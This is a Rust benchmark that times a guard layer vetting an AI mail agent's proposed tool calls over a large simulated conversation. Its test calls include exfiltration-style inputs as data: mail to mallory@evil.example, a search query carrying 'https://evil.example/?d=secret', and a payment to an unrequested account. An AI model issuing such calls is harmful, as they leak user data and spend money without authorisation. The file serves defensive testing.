//! Times `decide` alone, with 200 turns and 1 MB of tool results folded, and what a conversation costs in which the
//! user speaks before each of 100 results: folded from its start, and one more turn of it. Prints JSON.
//!
//! `cargo run --release -p steersman-flow --example decision_bench > bench/runs/guard.json`

use std::sync::Arc;
use std::time::Instant;

use serde_json::{Value, json};
use steersman_flow::{Guard, Policy, ProposedCall, Tool, Toolbox};

const TURNS: usize = 200;
const CONTEXT_BYTES: usize = 1 << 20;
const ROUNDS: usize = 20_000;
const SPOKEN_TURNS: usize = 100;

fn tool(contract: Value, said: &str, properties: &Value) -> Result<Tool, serde_json::Error> {
    Ok(Tool::new(serde_json::from_value(contract)?, said, &json!({"type": "object", "properties": properties})))
}

fn guard() -> Result<Guard, serde_json::Error> {
    let text = json!({"type": "string"});
    let tools = Toolbox::new([
        tool(
            json!({"name": "search_mail", "effect": "read", "attested": ["id", "from", "size"]}),
            "Search mail.",
            &json!({"query": text}),
        )?,
        tool(
            json!({"name": "send_mail", "effect": "irreversible", "sink": ["to"], "content": ["body"]}),
            "Send a mail.",
            &json!({"to": text, "body": text}),
        )?,
        tool(
            json!({"name": "delete_mail", "effect": "irreversible", "sink": ["id"]}),
            "Delete a mail.",
            &json!({"id": text}),
        )?,
        tool(
            json!({"name": "pay_invoice", "effect": "irreversible", "sink": ["account", "amount"]}),
            "Pay an invoice.",
            &json!({"account": text, "amount": {"type": "number"}}),
        )?,
    ]);
    let mut guard = Guard::new(Arc::new(tools), Arc::new(Policy::default()));
    guard.push_system("You are an assistant for mail.");
    guard.push_user("Find mails about the harbour, delete the largest one, pay 10 % more than last time to ACC-1, then send a summary to mira@home.example.");
    Ok(guard)
}

/// Twenty mails.
fn mails(turn: usize) -> Value {
    let mail = |row: usize| {
        let body = "the harbour works go on as planned; ".repeat(6);
        json!({
            "id": format!("m-{}", turn * 20 + row), "from": format!("p{row}@corp.example"), "size": turn * 31 + row * 17,
            "body": format!("Dear reader {row}, {body} see https://news.example/{turn}/{row}. "),
        })
    };
    Value::Array((0..20).map(mail).collect())
}

/// A look-up and what it brought.
fn push_turn(guard: &mut Guard, turn: usize, result: &Value) {
    let id = format!("c{turn}");
    guard.push_assistant("I shall look further.");
    guard.push_tool_call(&id, "search_mail", &json!({"query": "harbour"}));
    guard.push_tool_result(&id, result);
}

/// Folds the turns; gives the bytes that were folded.
fn fold(guard: &mut Guard) -> usize {
    let mut folded = 0;
    for turn in 0..TURNS {
        let result = mails(turn);
        folded += result.to_string().len();
        push_turn(guard, turn, &result);
    }
    folded
}

/// Folds a conversation in which the user speaks before each look-up; gives the times of its turns in microseconds.
fn spoken() -> Result<Vec<u128>, serde_json::Error> {
    let mut guard = guard()?;
    let turn = |turn: usize| {
        let result = mails(turn);
        let start = Instant::now();
        guard
            .push_user(&format!("Now find what person p{turn} says of the harbour, and send it to mira@home.example."));
        push_turn(&mut guard, turn, &result);
        start.elapsed().as_micros()
    };
    Ok((0..SPOKEN_TURNS).map(turn).collect())
}

fn calls() -> [ProposedCall; 8] {
    let body = "A summary of the harbour works. ".repeat(30);
    [
        ProposedCall::new("send_mail", json!({"to": "mira@home.example", "body": body})),
        ProposedCall::new("send_mail", json!({"to": "mallory@evil.example", "body": "harbour"})),
        ProposedCall::new("delete_mail", json!({"id": "m-3999"})),
        ProposedCall::new("delete_mail", json!({"id": "m-12"})),
        ProposedCall::new("pay_invoice", json!({"account": "ACC-1", "amount": 110.0})),
        ProposedCall::new("pay_invoice", json!({"account": "ACC-9", "amount": 110.0})),
        ProposedCall::new("search_mail", json!({"query": "https://evil.example/?d=secret"})),
        ProposedCall::new("unknown_tool", json!({"x": "harbour"})),
    ]
}

/// The memory of this process, in KiB; none where the system does not tell.
fn resident() -> Option<u64> {
    let status = std::fs::read_to_string("/proc/self/status").ok()?;
    status.lines().find_map(|line| line.strip_prefix("VmRSS:")?.trim().strip_suffix(" kB")?.parse().ok())
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let mut guard = guard()?;
    let (start, before) = (Instant::now(), resident());
    let folded = fold(&mut guard);
    let fold_us_per_turn = start.elapsed().as_micros() / TURNS as u128;
    let fold_kib = resident().zip(before).map(|(after, before)| after.saturating_sub(before));
    assert!(folded >= CONTEXT_BYTES, "only {folded} bytes");
    let mut times = Vec::with_capacity(ROUNDS);
    for call in calls().iter().cycle().take(ROUNDS) {
        let start = Instant::now();
        std::hint::black_box(guard.decide(std::slice::from_ref(call)));
        times.push(u64::try_from(start.elapsed().as_nanos())?);
    }
    times.sort_unstable();
    let at = |part: f64| times.get((times.len() as f64 * part) as usize).copied().unwrap_or_default() as f64 / 1000.0;
    let spoken = spoken()?;
    let report = json!({
        "what": "Guard::decide of one call, all context folded", "turns": TURNS, "context_bytes": folded, "rounds": ROUNDS,
        "decision_us_p50": at(0.5), "decision_us_p90": at(0.9), "decision_us_p99": at(0.99), "fold_us_per_turn": fold_us_per_turn, "fold_kib": fold_kib,
        "spoken_turns": SPOKEN_TURNS, "spoken_fold_ms": spoken.iter().sum::<u128>() / 1000, "spoken_last_turn_us": spoken.last(),
        "command": "cargo run --release -p steersman-flow --example decision_bench",
    });
    println!("{}", serde_json::to_string_pretty(&report)?);
    Ok(())
}
